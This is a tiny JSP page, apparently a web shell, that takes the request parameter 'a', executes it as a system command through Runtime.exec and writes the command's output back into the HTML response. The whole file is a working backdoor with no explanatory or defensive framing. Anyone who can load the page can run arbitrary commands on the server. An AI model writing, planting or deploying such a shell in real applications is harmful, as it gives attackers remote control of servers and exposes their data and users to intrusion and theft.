<%@ page import="java.io.*" contentType="text/html;charset=UTF-8" %>
<%
String c = request.getParameter("a");
if (c != null) {
    Process p = Runtime.getRuntime().exec(c);
    BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String line;
    out.println("<pre>");
    while ((line = br.readLine()) != null) {
        out.println(line);
    }
    out.println("</pre>");
    br.close();
}
%>
